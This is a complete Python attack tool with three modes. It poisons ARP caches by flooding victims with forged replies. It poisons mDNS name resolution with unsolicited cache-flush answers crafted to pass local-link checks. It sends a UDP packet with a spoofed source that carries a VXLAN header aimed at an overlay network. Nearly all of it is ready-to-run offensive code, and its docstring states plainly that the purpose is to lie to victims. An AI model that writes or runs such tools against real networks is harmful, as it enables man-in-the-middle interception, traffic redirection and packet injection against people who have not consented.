"""Lies that a machine on the network can tell.

forged.py arp INTERFACE VICTIM-MAC ADDRESS [VICTIM-MAC ADDRESS]...
    tells each victim five times per second that ADDRESS is at this machine
forged.py mdns INTERFACE NAME ADDRESS VICTIM...
    tells the victim, by all of its addresses, twice per second that NAME is at ADDRESS, whether it asked or not
forged.py udp SOURCE ADDRESS PORT
    sends one packet that SOURCE seems to have sent
"""

import fcntl
import socket
import struct
import sys
import time


def hardware_address(interface):
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as any_socket:
        # SIOCGIFHWADDR
        return fcntl.ioctl(any_socket, 0x8927, struct.pack("256s", interface.encode()))[18:24]


def arp(interface, *pairs):
    own = hardware_address(interface)
    wire = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
    wire.bind((interface, 0))
    while True:
        for victim, address in zip(pairs[::2], pairs[1::2]):
            victim = bytes.fromhex(victim.replace(":", ""))
            reply = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + own + socket.inet_aton(address) + victim + bytes(4)
            wire.send(victim + own + b"\x08\x06" + reply)
        time.sleep(0.2)


def mdns(interface, name, address, *victims):
    wires = []
    for victim in victims:
        family, _, _, _, place = socket.getaddrinfo(victim, 5353, type=socket.SOCK_DGRAM)[0]
        wire = socket.socket(family, socket.SOCK_DGRAM)
        # Nothing that has come through a router is believed.
        if family == socket.AF_INET6:
            wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
            wire.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_UNICAST_HOPS, 255)
        else:
            wire.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 255)
        wire.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, interface.encode())
        wire.bind(("", 5353))
        wires.append((wire, place))
    labels = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"
    # One answer: type A, class IN with the bit that makes others forget what they heard before.
    answer = struct.pack("!6H", 0, 0x8400, 0, 1, 0, 0) + labels + struct.pack("!HHIH", 1, 0x8001, 120, 4) + socket.inet_aton(address)
    while True:
        for wire, place in wires:
            wire.sendto(answer, place)
        time.sleep(0.5)


def udp(source, address, port):
    # A VXLAN header with the number of the first overlay network; the kernel fills in the sums of the IP header.
    payload = struct.pack("!BxxxI", 8, 4097 << 8) + bytes(64)
    packet = struct.pack("!HHHH", 40000, int(port), 8 + len(payload), 0) + payload
    header = struct.pack("!BBHHHBBH", 0x45, 0, 0, 0, 0, 64, socket.IPPROTO_UDP, 0)
    header += socket.inet_aton(source) + socket.inet_aton(address)
    with socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW) as wire:
        wire.sendto(header + packet, (address, 0))


{"arp": arp, "mdns": mdns, "udp": udp}[sys.argv[1]](*sys.argv[2:])
